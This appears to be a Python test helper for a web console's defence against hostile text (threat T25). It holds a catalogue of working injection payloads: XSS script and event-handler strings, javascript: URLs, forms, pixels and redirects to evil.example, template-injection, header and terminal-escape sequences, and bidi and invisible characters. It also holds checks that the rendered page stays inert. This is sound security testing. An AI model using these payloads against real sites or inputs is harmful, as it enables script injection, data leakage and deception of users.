"""Texts that want to be more than text, and what must not have happened where a page shows them (threat T25).

`spoil` puts them wherever somebody else's text can stand in a ledger; `unharmed` looks at a page that shows them.
"""

from __future__ import annotations

from typing import Any, Final

from interlock import Principal, Tool
from interlock.core.call import Outcome
from interlock.core.tool import CallContext
from tests.console.stand import Stand, Window
from tests.planes import Far

_RUN: Final = "window.pwned=1"

HOSTILE: Final[dict[str, str]] = {
    "script": f"<script>{_RUN}</script>",
    "script of a place": '<script src="https://evil.example/x.js"></script>',
    "end of a block": f"</pre></code></textarea></title></script><script>{_RUN}</script>",
    "end of an attribute": f'" autofocus tabindex=1 onfocus="{_RUN}" x="',
    "end of a single attribute": f"' onmouseover='{_RUN}' x='",
    "handler": f"<img src=x onerror={_RUN}>",
    "handler of a body": f"<body onload={_RUN}>",
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    "details": f"<details open ontoggle={_RUN}>",
    "script address": f"javascript:{_RUN}",
    "disguised script address": f"java\tscript:{_RUN}",
    "link": f'<a href="javascript:{_RUN}" id=pwned class=pwned>Approve</a>',
    "data address": "data:text/html,<script>parent.pwned=1</script>",
    "picture": '<img src="https://evil.example/pixel.gif?leak=1">',
    "picture of markdown": "![x](https://evil.example/leak.png) [Approve](https://evil.example/)",
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "form": '<form action="https://evil.example/"><input name=digest><button id=pwned>Approve</button></form>',
    "button": '<button id=pwned formaction="https://evil.example/" autofocus>Approve</button>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "style": "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "css": "</style>; background: url(https://evil.example/x.png); position: fixed; inset: 0",
    "style attribute": '<div style="position:fixed;inset:0;background:url(//evil.example/x)" class=pwned>Safe</div>',
    "template": "{{ 31337 * 3 }}{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %}${31337*3}<%= 31337*3 %>",
    "comment": "<!-- --><!--[if IE]><script>window.pwned=1</script><![endif]-->",
    "cdata": "]]><![CDATA[<script>window.pwned=1</script>",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3C;script&#x3E;",
    "bidi": "pay \u202eelbanrevo\u202c to \u2066ana\u2069@good.example",
    "invisible": "ap\u200bpro\u2060ve\ufeff \U000e0041\U000e0042\U000e0043 all",
    "confusable": "p\u0430ypal.example g\u043e\u043egle.example",
    "marks": "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b",
    "terminal": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "controls": "before\x00after\x08\x0b\x0c\x7f\r\nnext",
    "separators": "one\u2028two\u2029three\x85four",
    "live field": "fact approval.decided\n\nevent: fact\ndata: run. x y\n\n",
    "header": "x\r\nset-cookie: a=b\r\n\r\n<script>window.pwned=1</script>",
    "prototype": "__proto__",
    "long": "A" * 20_000,
    "long lines": "\n" * 200 + "the part that nobody scrolls to",
}
"""By what each wants to be."""

NAMES: Final = ("javascript.window.pwned-1", "constructor", "a-script-src-x")
"""Names of tools, as far as names may be hostile."""

MALLORY: Final = Principal(f'"><img src=x onerror={_RUN}>\u202e{{{{31337*3}}}}', roles=frozenset({"support"}))
"""Somebody whose very id is hostile; an id has no line ends and is not long."""

WORDS: Final = "\n".join(text for name, text in HOSTILE.items() if name != "long")
"""All of it as one text, for words, reasons, notes and comments."""

_ANYTHING: Final[dict[str, Any]] = {
    "type": "object",
    "properties": {"n": {"type": "integer", "description": HOSTILE["script"]}, "nested": {"type": "object"}},
    "required": ["n"],
    "additionalProperties": {"type": "string"},
}

_HIDDEN: Final = "\u202e\u202c\u2066\u2069\u200b\u2060\ufeff\U000e0041\x1b\x00\x08\x7f\u2028\u2029"

_NOT_OURS: Final = (
    "script:not([src^='/static/'])", "img", "iframe", "object", "embed", "style", "base", "meta[http-equiv]", "math",
    "video", "audio", "animate", "foreignObject", "[style]", "[srcdoc]", "[formaction]", "[autofocus]", "#pwned",
    ".pwned", "a[href]:not([href^='/']):not([href^='#']):not([href^='?'])", "form[action]:not([action^='/'])",
    "[contenteditable]", "[tabindex]:not([tabindex='0']):not([tabindex='-1'])",
)  # fmt: skip


def hostile_tools(far: Far) -> list[Tool]:
    """Tools whose names, descriptions and results are hostile: one of each effect."""

    async def says(arguments: dict[str, Any], context: CallContext) -> object:
        return {"n": arguments["n"], "said": WORDS, **HOSTILE}

    effects = ("read", "irreversible", "privileged")
    return [
        far.tool(name, effect, says, description=f"Does it. {WORDS}", input_schema=_ANYTHING)
        for name, effect in zip(NAMES, effects, strict=True)
    ]


def spoil(console: Stand, subject: Principal = MALLORY) -> list[tuple[str, Outcome]]:
    """A run with one call of each hostile tool, arguments and their names hostile: runs and what was told."""
    nested: dict[str, Any] = {"nested": {text: text for text in HOSTILE.values()}}
    return [console.call(subject, name, words=WORDS, n=1, **HOSTILE, **nested) for name in NAMES]


def unharmed(seen: Window) -> None:
    """Fail where a page that shows hostile text has become more than text by it; the window itself fails at the rest.

    The window of `stand.window` fails on every request that leaves, every dialog and everything that the browser's own
    policy had to stop; this looks at what is in the page.
    """
    page = seen.page
    assert page.evaluate("typeof window.pwned") == "undefined", "a script ran"
    assert page.url.startswith(seen.url), "it went elsewhere"
    not_ours = page.evaluate(
        "selectors => selectors.flatMap(selector =>"
        " [...document.querySelectorAll(selector)].map(e => `${selector}: ${e.outerHTML.slice(0, 200)}`))",
        _NOT_OURS,
    )
    assert not not_ours, not_ours
    handlers = page.evaluate(
        "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on')))"
        ".map(e => e.outerHTML.slice(0, 200))"
    )
    assert not handlers, handlers
    content = page.content()
    assert "94011" not in content, "a template was evaluated"
    hidden = [f"U+{ord(each):04X}" for each in _HIDDEN if each in content]
    assert not hidden, f"hidden characters stand in the page: {hidden}"
